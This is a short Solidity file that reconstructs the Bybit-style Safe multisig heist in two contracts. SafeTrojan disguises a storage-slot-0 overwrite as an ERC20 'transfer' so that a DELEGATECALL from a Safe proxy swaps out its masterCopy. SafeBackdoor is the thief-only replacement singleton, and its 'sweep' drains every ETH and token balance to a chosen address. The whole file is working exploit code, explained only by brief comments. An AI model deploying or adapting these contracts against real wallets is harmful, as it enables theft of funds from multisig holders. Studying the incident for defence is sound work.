// SPDX-License-Identifier: MIT
pragma solidity 0.8.26;

interface IERC20Sweep {
    function balanceOf(address owner) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
}

/// @title SafeTrojan
/// @notice What the Safe's signers were tricked into DELEGATECALLing, as at Bybit (0x9622...): its
/// innocent-looking `transfer(address,uint256)` writes the first argument into storage slot 0, which in
/// a Safe proxy is the singleton (masterCopy). The Safe then runs the thief's code.
contract SafeTrojan {
    function transfer(address to, uint256) external {
        assembly {
            sstore(0, to)
        }
    }
}

/// @title SafeBackdoor
/// @notice The thief's singleton once the proxy points at it: only the thief may call, and `sweep`
/// sends the whole ETH balance and every named token balance of the proxy to `to`.
contract SafeBackdoor {
    address private masterCopy; // slot 0, as in the Safe proxy
    address public immutable thief;

    constructor(address thief_) {
        thief = thief_;
    }

    function sweep(address payable to, address[] calldata tokens) external {
        require(msg.sender == thief, "not the thief");
        uint256 eth = address(this).balance;
        if (eth > 0) {
            (bool ok, ) = to.call{value: eth}("");
            require(ok, "eth sweep failed");
        }
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 amount = IERC20Sweep(tokens[i]).balanceOf(address(this));
            if (amount > 0) require(IERC20Sweep(tokens[i]).transfer(to, amount), "token sweep failed");
        }
    }
}
